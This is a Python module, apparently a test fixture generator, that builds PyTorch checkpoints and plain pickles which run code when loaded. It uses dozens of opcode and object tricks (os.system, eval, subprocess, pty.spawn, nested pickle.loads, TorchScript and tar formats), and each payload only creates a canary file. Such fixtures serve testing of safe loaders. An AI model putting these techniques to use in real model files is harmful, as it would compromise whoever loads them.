"""Files that run code when they are unpickled; the code leaves a canary file behind.

Most are a whole training checkpoint in which one string is replaced by opcodes that leave an object in its place.
"""

import io
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch

MARK = 'PAYLOAD'


def text(value: str) -> bytes:
    """Opcodes that push a str."""
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def call(name: str, *arguments: bytes) -> bytes:
    """Opcodes that call `module function`."""
    return named(name) + b'(' + b''.join(arguments) + b'tR'


def named(name: str) -> bytes:
    module, function = name.split(' ')
    return f'c{module}\n{function}\n'.encode()


class Calls:
    """Pickles as a call."""

    def __init__(self, function: Callable, *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> Any:
        return self.call


def opcodes(canary: Path) -> dict[str, bytes]:
    """Name -> opcodes that run code; what is called exists in Python 3.11 or in the libraries."""
    shell, python = text(f'touch {canary}'), text(f'open({str(canary)!r}, "w").close()')
    words = b'](' + text('touch') + text(str(canary)) + b'e'
    nested = pickle.dumps(Calls(eval, f'open({str(canary)!r}, "w").close()'), 0).decode('latin1')
    as_bytes = call('_codecs encode', text(nested), text('latin1'))
    partial = named('functools partial')
    return {
        'os.system': call('os system', shell),
        'posix.system': call('posix system', shell),
        'os.popen': call('os popen', shell),
        'eval': call('builtins eval', python),
        'eval of Python 2': call('__builtin__ eval', python),
        'exec': call('builtins exec', python),
        'Popen': call('subprocess Popen', words),
        'check_output': call('subprocess check_output', words),
        'getoutput': call('subprocess getoutput', shell),
        'pty.spawn': call('pty spawn', words),
        'timeit': call('timeit timeit', python),
        'cProfile.run': call('cProfile run', python),
        'pdb.run': call('pdb run', python),
        'runpy': call('runpy _run_code', call('builtins compile', python, text('f'), text('exec')), b'}'),
        'code interpreter': call('code InteractiveInterpreter', b'') + b'0N',
        'open for writing': call('io open', text(str(canary)), text('w')),
        'pathlib.Path.touch': call('builtins getattr', call('pathlib Path', text(str(canary))), text('touch')) + b')R',
        'numpy runstring': call('numpy.testing._private.utils runstring', python, b'}'),
        'numpy.save': call('numpy savetxt', text(str(canary)), b'](K\x01e'),
        'torch.save': call('torch save', b'N', text(str(canary))),
        'torch.load nested': call('torch load', text(f'{canary}.nested'), b'NN\x89'),
        'torch.fx exec': call('torch.fx.graph_module _exec_with_source', python, b'}'),
        'torch.hub': call('torch.hub load', text(str(canary)), text('x')),
        'pickle.loads in it': call('pickle loads', as_bytes),
        'import_module': call('importlib import_module', text('antigravity')),
        '__import__ and getattr': call('builtins getattr', call('builtins __import__', text('os')), text('system'))
        + b'('
        + shell
        + b'tR',
        'operator.methodcaller': call('operator methodcaller', text('system'), shell)
        + b'('
        + call('builtins __import__', text('os'))
        + b'tR',
        'map in a list': call('builtins list', call('builtins map', named('os system'), b'](' + shell + b'e')),
        'INST': b'(' + shell + b'ios\nsystem\n',
        'OBJ': b'(' + named('os system') + shell + b'o',
        'STACK_GLOBAL': text('os') + text('system') + b'\x93(' + shell + b'tR',
        'NEWOBJ of a partial': partial + named('os system') + shell + b'\x86\x81)R',
        'NEWOBJ_EX of a partial': partial + named('os system') + shell + b'\x86}\x92)R',
        'BUILD with __setstate__': call('collections OrderedDict', b'')
        + b'}'
        + text('__setstate__')
        + named('os system')
        + b'sb'
        + shell
        + b'b',
        'BUILD of a class': named('mmengine.logging.history_buffer HistoryBuffer')
        + b'N}'
        + text('mean')
        + named('os system')
        + b's\x86b'
        + b'0'
        + call('os system', shell),
        'getattr of a history': call(
            'builtins getattr',
            named('mmengine.logging.history_buffer HistoryBuffer'),
            text('__init__'),
        )
        + b'0'
        + call('os system', shell),
        'reduce through a rebuilt tensor': call(
            'torch._tensor _rebuild_from_type_v2', named('os system'), named('torch Tensor'), b'(' + shell + b't', b'N'
        ),
    }


def objects(canary: Path) -> dict[str, Any]:
    """Name -> object that runs code when it is unpickled, as pickle itself writes it."""
    evil = Calls(eval, f'open({str(canary)!r}, "w").close()')
    array = np.empty(1, dtype=object)
    array[0] = evil
    return {
        'numpy array of objects': array,
        'a class in meta': {'hook': Calls(type, 'Evil', (object,), {'x': evil})},
        'history of objects': Calls(_history, evil),
        'in a tuple in a set': (frozenset([1]), {'deep': [[[evil]]]}),
        'as a key': {Calls(str, evil): 1},
    }


def _history(_: Any) -> Any:
    from mmengine.logging import HistoryBuffer

    return HistoryBuffer()


PLACES: dict[str, Callable[[dict, Any], Any]] = {
    'optimizer': lambda content, value: content['optimizer']['param_groups'][0].update(lr=value),
    'param_schedulers': lambda content, value: content.update(param_schedulers=[{'last_step': value}]),
    'message_hub': lambda content, value: content['message_hub']['runtime_info'].update(epoch=value),
    'state_dict': lambda content, value: content['state_dict'].update(extra=value),
    'ema_state_dict': lambda content, value: content.update(ema_state_dict={'x': value}),
    '_metadata': lambda content, value: content['state_dict']._metadata.update(x=value),
    'beside the rest': lambda content, value: content.update(other=value),
}


def write_with_opcodes(path: Path, content: dict, payload: bytes, zipped: bool = True) -> None:
    """Save `content` with the string MARK in it replaced by what `payload` leaves."""
    torch.save(content, path, _use_new_zipfile_serialization=zipped)
    if zipped:
        members = read_members(path)
        name = next(name for name in members if name.endswith('data.pkl'))
        members[name] = _replaced(members[name], payload)
        write_members(path, members)
    else:
        path.write_bytes(_replaced(path.read_bytes(), payload))


def _replaced(data: bytes, payload: bytes) -> bytes:
    assert data.count(text(MARK)) == 1
    return data.replace(text(MARK), payload)


def read_members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_members(path: Path, members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(path, 'w', compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def write_all(folder: Path, checkpoint: Path, canary: Path) -> list[Path]:
    """Write every hostile file made from a training checkpoint; return their paths."""
    written: list[Path] = []

    def fresh() -> dict:
        return torch.load(checkpoint, map_location='cpu', weights_only=False)

    def new(name: str) -> Path:
        written.append(folder / f'{name.replace(" ", "_").replace(".", "-")}.pth')
        return written[-1]

    marked = fresh()
    marked['meta']['x'] = MARK
    for name, payload in opcodes(canary).items():
        write_with_opcodes(new(name), marked, payload)
    for name in ('os.system', 'eval', 'INST', 'STACK_GLOBAL'):
        write_with_opcodes(new(f'{name} before torch 1.6'), marked, opcodes(canary)[name], zipped=False)
    for place, put in PLACES.items():
        content = fresh()
        put(content, MARK)
        write_with_opcodes(new(f'eval in {place}'), content, opcodes(canary)['eval'])
    for name, value in objects(canary).items():
        content = fresh()
        content['meta']['x'] = value
        torch.save(content, new(name))
        torch.save(content, new(f'{name} protocol 4'), pickle_protocol=4)
    evil = objects(canary)['in a tuple in a set']
    for protocol in range(6):
        new(f'plain pickle {protocol}').write_bytes(pickle.dumps({'state_dict': evil}, protocol))
    torch.save(objects(canary)['as a key'], new('nothing else'))
    _write_tar(new('tar of torch 0.1'), opcodes(canary)['eval'])
    first = fresh()
    write_with_opcodes(new('two data.pkl'), marked, opcodes(canary)['eval'])
    good = io.BytesIO()
    torch.save(first, good)
    with zipfile.ZipFile(written[-1], 'a') as archive, zipfile.ZipFile(good) as other:
        archive.writestr('other/data.pkl', next(other.read(n) for n in other.namelist() if n.endswith('data.pkl')))
    members = read_members(checkpoint)
    write_members(
        new('torchscript'), {**members, 'archive/constants.pkl': b'\x80\x02' + opcodes(canary)['eval'] + b'.'}
    )
    Path(f'{canary}.nested').write_bytes(b'\x80\x02' + opcodes(canary)['eval'] + b'.')
    config = fresh()
    config['meta']['config'] = f'gpu_ids = range(0, 8)\nopen({str(canary)!r}, "w").close()\n'
    torch.save(config, new('config with code'))
    torch.save(
        OrderedDict(meta={'config': config['meta']['config']}, state_dict=first['state_dict']), new('its weights')
    )
    return written


def _write_tar(path: Path, payload: bytes) -> None:
    """The format before 2017: pickles in a tar archive."""
    empty = b'\x80\x02K\x00.'
    with tarfile.open(path, 'w', format=tarfile.PAX_FORMAT) as tar:
        for name, data in (
            ('storages', empty + b'\x80\x02].'),
            ('tensors', empty),
            ('pickle', b'\x80\x02' + payload + b'.'),
        ):
            member = tarfile.TarInfo(name)
            member.size = len(data)
            tar.addfile(member, io.BytesIO(data))
